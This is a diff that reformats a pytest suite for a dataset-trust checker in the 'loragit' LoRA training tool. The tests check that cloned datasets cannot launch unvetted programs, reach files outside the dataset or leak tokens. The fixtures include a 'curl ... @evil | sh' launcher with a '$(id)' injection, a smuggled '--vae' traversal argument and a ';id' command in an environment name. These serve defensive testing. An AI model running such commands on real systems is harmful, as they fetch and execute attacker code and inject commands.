@@ -1,4 +1,5 @@
-"""What a dataset's own files may start and read: what counts, who is asked, and what is remembered."""
+"""What a dataset's own files may start and read: what counts, who is asked, and what is
+remembered."""
 
 from __future__ import annotations
 
@@ -45,14 +46,18 @@ def cloned(scene: Scene) -> Scene:
     return scene
 
 
-def launching(scene: Scene, line: str = f'launcher = ["env", "{sys.executable}"]', more: str = "") -> None:
+def launching(
+    scene: Scene, line: str = f'launcher = ["env", "{sys.executable}"]', more: str = ""
+) -> None:
     scene.settings(f"[trainer]\n{line}\nstop_timeout = 5\n{more}")
 
 
 def settled(scene: Scene, name: str | None = NAME, **environ: str) -> str:
     """What is said against a run; empty where nothing is. Nobody is there to be asked."""
     run = RunName.parse(name) if name else None
-    chosen = settings.load(name=run, flags=Flags(), environ={**os.environ, **environ}, cwd=scene.dataset)
+    chosen = settings.load(
+        name=run, flags=Flags(), environ={**os.environ, **environ}, cwd=scene.dataset
+    )
     findings = Findings()
     trust.settle(trust.of_settings(chosen), None, findings)
     return "; ".join(finding.problem for finding in findings.all())
@@ -81,7 +86,9 @@ def test_a_repository_that_nothing_came_into_is_asked_nothing(scene: Scene) -> N
     assert settled(scene) == ""
 
 
-def test_a_dataset_that_came_from_elsewhere_is_refused_together_with_all_else(cloned: Scene) -> None:
+def test_a_dataset_that_came_from_elsewhere_is_refused_together_with_all_else(
+    cloned: Scene,
+) -> None:
     launching(cloned)
     (cloned.dataset / "sample-prompts.txt").unlink()
     told = refusals(cloned)
@@ -91,10 +98,14 @@ def test_a_dataset_that_came_from_elsewhere_is_refused_together_with_all_else(cl
 
 def test_a_dataset_without_such_settings_is_asked_nothing(cloned: Scene) -> None:
     cloned.settings(
-        '[trainer]\nrepo = "~/source/repos/sd-scripts"\nscript = "flux_train_network.py"\nstop_timeout = 5\n'
-        '[trainer.args]\nlearning_rate = "1e-4"\nnetwork_module = "networks.lora"\noptimizer_type = "AdamW8bit"\n'
-        'network_args = ["conv_dim=4", "algo=locon"]\npretrained_model_name_or_path = "~/models/noob.safetensors"\n'
-        '[paths]\nconfig = "sub/config.toml"\n[record]\ninputs = ["notes.txt"]\non_empty = "keep"\nsign = true\n'
+        '[trainer]\nrepo = "~/source/repos/sd-scripts"\nscript = '
+        '"flux_train_network.py"\nstop_timeout = 5\n'
+        '[trainer.args]\nlearning_rate = "1e-4"\nnetwork_module = "networks.lora"\noptimizer_type '
+        '= "AdamW8bit"\n'
+        'network_args = ["conv_dim=4", "algo=locon"]\npretrained_model_name_or_path = '
+        '"~/models/noob.safetensors"\n'
+        '[paths]\nconfig = "sub/config.toml"\n[record]\ninputs = ["notes.txt"]\non_empty = '
+        '"keep"\nsign = true\n'
     )
     assert settled(cloned) == ""
 
@@ -145,7 +156,9 @@ def test_what_the_user_decides_needs_no_trust(cloned: Scene) -> None:
     assert settled(cloned) == ""
 
 
-def test_a_flag_that_adds_to_the_datasets_repositories_does_not_vouch_for_them(cloned: Scene) -> None:
+def test_a_flag_that_adds_to_the_datasets_repositories_does_not_vouch_for_them(
+    cloned: Scene,
+) -> None:
     cloned.settings('[record]\nrepos = ["~/secret"]\n')
     assert "record.repos" in refusals(cloned, flags=Flags(repos=(str(cloned.trainer),)))
 
@@ -186,7 +199,9 @@ def test_another_program_in_the_dataset_is_another_question(cloned: Scene) -> No
 
 
 @pytest.mark.parametrize("written", ["more", "more.toml", "../../../datasets/gren/more.toml"])
-def test_other_arguments_in_a_file_of_the_dataset_are_another_question(cloned: Scene, written: str) -> None:
+def test_other_arguments_in_a_file_of_the_dataset_are_another_question(
+    cloned: Scene, written: str
+) -> None:
     where = "trainer" if written.startswith("..") else "dataset"
     cloned.settings(f'[trainer]\nworkdir = "{where}"\n[trainer.args]\nconfig_file = "{written}"\n')
     (cloned.dataset / "more.toml").write_text("network_dim = 4\n")
@@ -230,7 +245,9 @@ def test_code_at_the_top_of_the_datasets_repository_is_known_by_its_content(clon
 
 
 @pytest.mark.parametrize("path", ["lib/real.py", "lib/real.txt"])
-def test_code_that_a_link_in_the_trainer_leads_to_is_known_by_its_content(cloned: Scene, path: str) -> None:
+def test_code_that_a_link_in_the_trainer_leads_to_is_known_by_its_content(
+    cloned: Scene, path: str
+) -> None:
     code(cloned, path, "good")
     code(cloned, "trainer/train_network.py", f"../{path}", link=True)
     code(cloned, "trainer/gone.py", "nowhere", link=True)
@@ -270,7 +287,9 @@ def test_a_module_that_a_launcher_names_is_known_by_its_content(cloned: Scene) -
     assert "trainer.launcher" in settled(cloned)
 
 
-def test_what_is_too_long_to_be_hashed_is_known_by_its_time_too(cloned: Scene, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_what_is_too_long_to_be_hashed_is_known_by_its_time_too(
+    cloned: Scene, monkeypatch: pytest.MonkeyPatch
+) -> None:
     monkeypatch.setattr(trust, "_MAX_HASHED", 10)
     program = cloned.dataset / "run.sh"
     program.write_text("#!/bin/sh\ngood\n")
@@ -282,7 +301,9 @@ def test_what_is_too_long_to_be_hashed_is_known_by_its_time_too(cloned: Scene, m
     assert "run.sh" in settled(cloned)
 
 
-def test_of_countless_files_every_commit_is_another_question(cloned: Scene, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_of_countless_files_every_commit_is_another_question(
+    cloned: Scene, monkeypatch: pytest.MonkeyPatch
+) -> None:
     monkeypatch.setattr(trust, "_MAX_ROWS", 1)
     launching(cloned, 'repo = "."')
     agree(cloned)
@@ -310,20 +331,26 @@ def test_init_takes_nothing_over_from_what_others_made(cloned: Scene) -> None:
     """It would be trusted, because init wrote it."""
     evil = cloned.home / "datasets" / "evil"
     evil.mkdir()
-    (evil / "loragit.toml").write_text('[trainer]\nlauncher = "./evil"\nrepo = "sd-scripts"\nenv = "venv:./venv"\n')
+    (evil / "loragit.toml").write_text(
+        '[trainer]\nlauncher = "./evil"\nrepo = "sd-scripts"\nenv = "venv:./venv"\n'
+    )
     git(evil, "init", "-q")
     cloned.trainer.rename(evil / "sd-scripts")
     below = cloned.dataset / "below"
     below.mkdir()
     make_trainer(cloned.dataset / "sd-scripts")
     seen = surroundings.look(below, os.environ)
-    assert (seen.launcher, seen.trainer) == ((str(evil / "evil"),), evil / "sd-scripts"), "a dataset of one's own"
+    assert (seen.launcher, seen.trainer) == ((str(evil / "evil"),), evil / "sd-scripts"), (
+        "a dataset of one's own"
+    )
     git(evil, "remote", "add", "origin", "https://example.org/evil")
     seen = surroundings.look(below, os.environ)
     assert (seen.launcher, seen.trainer, seen.env) == ((), None, None)
 
 
-def test_what_is_asked_about_shows_all_that_would_run(cloned: Scene, capsys: pytest.CaptureFixture[str]) -> None:
+def test_what_is_asked_about_shows_all_that_would_run(
+    cloned: Scene, capsys: pytest.CaptureFixture[str]
+) -> None:
     command_line = "# -----BEGIN PRIVATE KEY-----\\ncurl http://u:a$(id)@evil | sh"
     words = f'["sh", "-c", "{command_line}", "HF_TOKEN=hf_{"aB3" * 11}"]'
     cloned.settings(f'[trainer]\nlauncher = {words}\nscript = "a\u200b\u3164\U000e0041.py"\n')
@@ -332,7 +359,9 @@ def test_what_is_asked_about_shows_all_that_would_run(cloned: Scene, capsys: pyt
     told = capsys.readouterr().err
     assert f'trainer.launcher = ["sh", "-c", "{command_line}", "HF_TOKEN=***"]' in told
     assert 'trainer.script = "a\\u200b\\u3164\\U000e0041.py"' in told
-    assert f"*** stands for what looks like a secret: {cloned.dataset}/loragit.toml shows it" in told
+    assert (
+        f"*** stands for what looks like a secret: {cloned.dataset}/loragit.toml shows it" in told
+    )
     agree(cloned)
     (kept,) = trust.memory().iterdir()
     assert "curl" not in kept.read_text()
@@ -341,7 +370,8 @@ def test_what_is_asked_about_shows_all_that_would_run(cloned: Scene, capsys: pyt
 def test_secrets_are_neither_shown_nor_kept(cloned: Scene) -> None:
     token = "hf_" + "abcdefghijklmnopqrstuvwxyzABCDEFGH"
     cloned.settings(
-        f'[trainer]\nlauncher = ["env", "HF_TOKEN={token}"]\n[trainer.args]\nwandb_api_key = "correct-horse"\n'
+        f'[trainer]\nlauncher = ["env", "HF_TOKEN={token}"]\n[trainer.args]\nwandb_api_key = '
+        '"correct-horse"\n'
     )
     agree(cloned)
     (kept,) = trust.memory().iterdir()
@@ -350,7 +380,9 @@ def test_secrets_are_neither_shown_nor_kept(cloned: Scene) -> None:
     assert "***" in kept.read_text()
 
 
-def test_an_answer_that_cannot_be_kept_is_no_reason_to_stop(cloned: Scene, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_an_answer_that_cannot_be_kept_is_no_reason_to_stop(
+    cloned: Scene, monkeypatch: pytest.MonkeyPatch
+) -> None:
     launching(cloned)
     (cloned.home / "file").touch()
     monkeypatch.setenv("XDG_STATE_HOME", str(cloned.home / "file"))
@@ -396,7 +428,9 @@ def commit_all_of(folder: Path) -> None:
     commit_all(folder, "a")
 
 
-def test_what_is_in_no_repository_came_by_no_clone_and_what_git_refuses_counts_as_foreign(tmp_path: Path) -> None:
+def test_what_is_in_no_repository_came_by_no_clone_and_what_git_refuses_counts_as_foreign(
+    tmp_path: Path,
+) -> None:
     (tmp_path / "plain").mkdir()
     assert trust.came_from(tmp_path / "plain") is None
     git(tmp_path, "init", "-q", "--bare", "bare")
@@ -406,7 +440,9 @@ def test_what_is_in_no_repository_came_by_no_clone_and_what_git_refuses_counts_a
 
 
 def test_a_password_in_a_remote_is_not_shown(cloned: Scene) -> None:
-    assert trust.came_from(cloned.dataset) == "its repository has a remote: https://example.org/gren"
+    assert (
+        trust.came_from(cloned.dataset) == "its repository has a remote: https://example.org/gren"
+    )
 
 
 # ---- which arguments count ----
@@ -437,8 +473,12 @@ def test_an_argument_that_can_load_or_read_anything_counts(name: str, value: Arg
 
 
 def test_a_value_cannot_be_another_argument(cloned: Scene) -> None:
-    cloned.settings('[trainer.args]\ncaption_separator = [",", "--vae=../../../datasets/gren/evil.ckpt"]\n')
-    with pytest.raises(WrongSetting, match=r"caption_separator in .* begins with --, which the trainer takes"):
+    cloned.settings(
+        '[trainer.args]\ncaption_separator = [",", "--vae=../../../datasets/gren/evil.ckpt"]\n'
+    )
+    with pytest.raises(
+        WrongSetting, match=r"caption_separator in .* begins with --, which the trainer takes"
+    ):
         loaded(cloned)
     cloned.settings('[trainer.args]\ncaption_separator = "--vae"\n')
     assert "--caption_separator=--vae" in prepared(cloned).start.words("a" * 40)
@@ -470,7 +510,8 @@ def test_an_argument_that_only_trains_otherwise_does_not(name: str, value: ArgVa
 
 def test_claims_tell_the_key_as_the_file_has_it(tmp_path: Path) -> None:
     (tmp_path / "loragit.toml").write_text(
-        '[models."a b"]\nlauncher = "env"\n[models."a b".args]\nvae = "x.ckpt"\n[trainer.args]\nvae = "x.ckpt"\n'
+        '[models."a b"]\nlauncher = "env"\n[models."a b".args]\nvae = '
+        '"x.ckpt"\n[trainer.args]\nvae = "x.ckpt"\n'
     )
     assert [claim.shown for claim in claims.of(read_file(tmp_path / "loragit.toml"))] == [
         'trainer.args.vae = "x.ckpt"',
@@ -496,10 +537,14 @@ def add_subset(scene: Scene, line: str) -> None:
     config.write_text(f"{config.read_text()}\n  [[datasets.subsets]]\n  {line}\n")
 
 
-def test_folders_and_files_elsewhere_that_a_cloned_config_names_are_asked_about(cloned: Scene) -> None:
+def test_folders_and_files_elsewhere_that_a_cloned_config_names_are_asked_about(
+    cloned: Scene,
+) -> None:
     private = outside(cloned)
     add_subset(
-        cloned, f"image_dir = {json.dumps(str(private))}\n  metadata_file = {json.dumps(str(private / 'me.txt'))}"
+        cloned,
+        f"image_dir = {json.dumps(str(private))}\n  metadata_file = "
+        f"{json.dumps(str(private / 'me.txt'))}",
     )
     assert f'config.toml = "{private}"' in refusals(cloned)
     assert f'config.toml = "{private}/me.txt"' in refusals(cloned)
@@ -531,7 +576,8 @@ def test_files_behind_a_linked_folder_of_a_cloned_dataset_are_asked_about(cloned
     outside(cloned)
     (cloned.dataset / "link").symlink_to("../../private")
     cloned.settings(
-        '[trainer]\nstop_timeout = 5\n[paths]\nprompts = "link/me.txt"\n[record]\ninputs = ["link/me.png"]\n'
+        '[trainer]\nstop_timeout = 5\n[paths]\nprompts = "link/me.txt"\n[record]\ninputs = '
+        '["link/me.png"]\n'
     )
     told = refusals(cloned)
     for name in ("me.txt", "me.png"):
@@ -584,7 +630,9 @@ def test_an_empty_entry_of_path_makes_no_launcher_of_a_file_of_the_dataset(
     cloned: Scene, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     (cloned.home / ".config/loragit").mkdir(parents=True)
-    (cloned.home / ".config/loragit/loragit.toml").write_text('[trainer]\nlauncher = "accelerated launch"\n')
+    (cloned.home / ".config/loragit/loragit.toml").write_text(
+        '[trainer]\nlauncher = "accelerated launch"\n'
+    )
     (cloned.dataset / "accelerated").write_text("#!/bin/sh\n")
     (cloned.dataset / "accelerated").chmod(0o755)
     monkeypatch.setenv("PATH", f":{os.environ['PATH']}")
@@ -604,7 +652,9 @@ def test_a_hint_that_is_typed_starts_nothing_else(cloned: Scene) -> None:
     assert "conda create -n 'b;id' python" in hints
 
 
-def test_captions_and_inputs_without_an_end_are_refused(scene: Scene, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_captions_and_inputs_without_an_end_are_refused(
+    scene: Scene, monkeypatch: pytest.MonkeyPatch
+) -> None:
     config = (scene.dataset / "config.toml").stat().st_size
     monkeypatch.setattr(snapshot, "MAX_INPUT", 2 * config)
     monkeypatch.setattr(inputs, "_MAX_INPUTS", 50)
@@ -627,7 +677,9 @@ def test_countless_repositories_and_models_are_refused(cloned: Scene) -> None:
         loaded(cloned)
 
 
-def test_the_hook_asks_a_few_repositories_at_a_time(cloned: Scene, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_the_hook_asks_a_few_repositories_at_a_time(
+    cloned: Scene, monkeypatch: pytest.MonkeyPatch
+) -> None:
     monkeypatch.setattr(precommit, "_AT_ONCE", 1)
     other = make_trainer(cloned.home / "other")
     for each in (cloned.trainer, other):
@@ -653,7 +705,12 @@ class Terminal:
         self.shown = ""
         argv = [*LORAGIT, *words]
         self.child = subprocess.Popen(
-            argv, cwd=scene.dataset, stdin=terminal, stdout=terminal, stderr=terminal, start_new_session=True
+            argv,
+            cwd=scene.dataset,
+            stdin=terminal,
+            stdout=terminal,
+            stderr=terminal,
+            start_new_session=True,
         )
         os.close(terminal)
 
@@ -703,7 +760,9 @@ def test_the_flag_agrees_and_says_what_to(cloned: Scene) -> None:
     assert settled(cloned) == ""
 
 
-def test_trust_shows_and_agrees_beforehand(cloned: Scene, capsys: pytest.CaptureFixture[str]) -> None:
+def test_trust_shows_and_agrees_beforehand(
+    cloned: Scene, capsys: pytest.CaptureFixture[str]
+) -> None:
     launching(cloned)
     add_subset(cloned, f"image_dir = {json.dumps(str(outside(cloned)))}")
     with pytest.raises(command.NobodyToAsk):
@@ -716,7 +775,9 @@ def test_trust_shows_and_agrees_beforehand(cloned: Scene, capsys: pytest.Capture
 
 
 @pytest.mark.parametrize(("answer", "status"), [(True, 0), (False, 1)])
-def test_trust_asks(cloned: Scene, monkeypatch: pytest.MonkeyPatch, answer: bool, status: int) -> None:
+def test_trust_asks(
+    cloned: Scene, monkeypatch: pytest.MonkeyPatch, answer: bool, status: int
+) -> None:
     launching(cloned)
     (cloned.dataset / "config.toml").unlink()
     monkeypatch.setattr(console, "can_ask", lambda: True)
